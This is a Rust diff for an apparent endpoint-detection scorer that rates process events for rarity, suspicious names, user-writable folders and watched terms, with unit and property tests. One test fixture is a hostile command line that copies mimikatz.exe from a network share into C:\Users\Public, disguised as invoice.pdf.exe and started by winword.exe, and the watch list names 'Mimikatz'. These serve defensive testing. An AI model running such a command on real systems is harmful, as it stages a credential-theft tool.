@@ -89,6 +89,8 @@ pub(crate) struct Shape<'a> {
     pub(crate) context: Option<&'a str>,
     /// The word of the template that is in the fewest shapes.
     pub(crate) word: Option<&'a str>,
+    /// Whether its events have a text that the caller looks for.
+    pub(crate) is_watched: bool,
     /// The numbers of events: of all, of the subject, of the subject in the context, and of the subject with the template's delimiters.
     pub(crate) events_of_all: i64,
     pub(crate) events_of_subject: i64,
@@ -231,9 +233,10 @@ impl Reviewer {
             [shape.text, shape.path, shape.subject, shape.context].map(|text| text.map(str::to_lowercase));
         let found =
             self.watch.iter().find(|(_, small)| texts.iter().flatten().any(|text| text.contains(small)));
-        Some(match found {
-            Some((text, _)) => (10.0, Some(format!("has '{text}', which is watched for"))),
-            None => (0.0, None),
+        Some(match (found, shape.is_watched) {
+            (Some((text, _)), _) => (10.0, Some(format!("has '{}', which is watched for", excerpt(text)))),
+            (None, true) => (10.0, Some("has a text that is watched for".to_string())),
+            (None, false) => (0.0, None),
         })
     }
 }
@@ -276,7 +279,9 @@ fn context(shape: &Shape) -> Option<Part> {
             ),
         }
     };
-    Some((part, (part >= UNUSUAL).then(reason)))
+    // Groups are counted, and an event that is often repeated is one of few.
+    let is_seldom = shape.events_in_context <= shape.events_of_subject / 2;
+    Some((part, (part >= UNUSUAL && is_seldom).then(reason)))
 }
 
 fn context_subject(shape: &Shape) -> Option<Part> {
@@ -308,6 +313,9 @@ fn word_in_words(shape: &Shape) -> Option<String> {
     /// Longer ones say nothing to a reader.
     const LONGEST: usize = 64;
     let word = shape.word.filter(|word| word.chars().nth(LONGEST).is_none())?;
+    if shape.shapes_with_word >= shape.shapes_of_all {
+        return None;
+    }
     Some(if shape.shapes_with_word == 1 {
         format!("the word '{word}' is nowhere else")
     } else {
@@ -332,7 +340,7 @@ fn places(shape: &Shape) -> Option<Part> {
     } else if is_user_writable(text) {
         words.push("names a folder that users can write to".to_string());
     }
-    words.extend(address.map(|address| format!("names another machine, {}", excerpt(address))));
+    words.extend(address.map(|address| format!("names an address, {}", excerpt(address))));
     Some(if words.is_empty() { (0.0, None) } else { (1.0, Some(words.join(" and "))) })
 }
 
@@ -422,4 +430,122 @@ fn number(number: i64) -> String {
         written.push(digit);
     }
     written
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    fn reviewed(shape: &Shape) -> Review {
+        Reviewer::new(Term::ALL.to_vec(), vec!["Mimikatz".to_string()]).review(shape)
+    }
+
+    fn part(review: &Review, term: Term) -> Option<f64> {
+        let place = Term::ALL.iter().position(|other| *other == term).expect("a term");
+        review.terms[place]
+    }
+
+    #[test]
+    fn reasons_are_in_words() {
+        let shape = Shape {
+            text: Some("cmd.exe /c copy \\\\10.0.0.7\\share\\mimikatz.exe C:\\Users\\Public"),
+            path: Some(r"C:\Temp\invoice.pdf.exe"),
+            subject: Some("invoice.pdf.exe"),
+            context: Some("winword.exe"),
+            word: Some("invoice"),
+            is_watched: true,
+            events_of_all: 1_000_000,
+            events_of_subject: 4_212,
+            events_in_context: 1,
+            events_alike: 1,
+            groups_of_all: 5_000,
+            groups_of_subject: 300,
+            groups_of_context: 40,
+            groups_in_context: 1,
+            shapes_of_all: 4_000,
+            shapes_with_word: 1,
+            events_with_word: 1,
+        };
+        let review = reviewed(&shape);
+        assert_eq!(
+            review.reasons,
+            [
+                "has 'Mimikatz', which is watched for",
+                "the word 'invoice' is nowhere else",
+                "winword.exe started it: 1 of 4,212 starts of invoice.pdf.exe",
+                "1 of 1,000,000 events look like this",
+                "named like a document",
+                "winword.exe rarely starts it: 1 of the 40 kinds of commands that it starts",
+                r"runs from a folder that users can write to and names an address, \\10.0.0.7\share\mimikatz.exe",
+            ]
+        );
+        let sum: f64 = review.terms.iter().flatten().sum();
+        assert!((review.score - sum).abs() < 1e-9);
+    }
+
+    #[test]
+    fn terms_without_input_are_absent() {
+        let review = reviewed(&Shape::default());
+        let present = Term::ALL.into_iter().filter(|term| part(&review, *term).is_some());
+        assert_eq!(present.collect::<Vec<_>>(), [Term::Rarity, Term::Watch]);
+        assert_eq!((review.score, review.reasons.len()), (0.0, 0));
+        let none = Reviewer::new(vec![], vec![]).review(&Shape { text: Some("a"), ..Shape::default() });
+        assert!(none.terms.iter().all(Option::is_none));
+    }
+
+    #[test]
+    fn thousands_have_commas() {
+        assert_eq!([0, 12, 999, 1_000, 1_234_567].map(number), ["0", "12", "999", "1,000", "1,234,567"]);
+    }
+
+    proptest! {
+        #[test]
+        fn parts_are_bounded(
+            text in proptest::option::of("\\PC{0,80}"),
+            path in proptest::option::of("\\PC{0,40}"),
+            subject in proptest::option::of("\\PC{0,20}"),
+            context in proptest::option::of("\\PC{0,20}"),
+            numbers in proptest::collection::vec(1..1_000_000_i64, 11),
+        ) {
+            let [a, b, c, d, e, f, g, h, i, j, k] = numbers.try_into().expect("eleven");
+            let shape = Shape {
+                text: text.as_deref(),
+                path: path.as_deref(),
+                subject: subject.as_deref(),
+                context: context.as_deref(),
+                word: subject.as_deref(),
+                is_watched: a % 2 == 0,
+                events_of_all: a.max(b),
+                events_of_subject: b.min(a),
+                events_in_context: c.min(b),
+                events_alike: d.min(a),
+                groups_of_all: e.max(f).max(g),
+                groups_of_subject: f,
+                groups_of_context: g,
+                groups_in_context: h.min(f).min(g),
+                shapes_of_all: i.max(j),
+                shapes_with_word: j.min(i),
+                events_with_word: k.min(a.max(b)),
+            };
+            let review = reviewed(&shape);
+            for (term, most) in [
+                (Term::Context, 4.0),
+                (Term::ContextSubject, 2.0),
+                (Term::Launcher, 1.0),
+                (Term::Interpreter, 1.0),
+                (Term::Base64, 4.0),
+                (Term::Obfuscation, 1.5),
+                (Term::RareWord, 14.0),
+                (Term::Places, 1.0),
+                (Term::Rarity, 4.0),
+                (Term::Name, 2.0),
+                (Term::Watch, 10.0),
+            ] {
+                prop_assert!(part(&review, term).is_none_or(|part| (0.0..=most).contains(&part)), "{term:?} {review:?}");
+            }
+            prop_assert!(review.score.is_finite());
+        }
+    }
 }
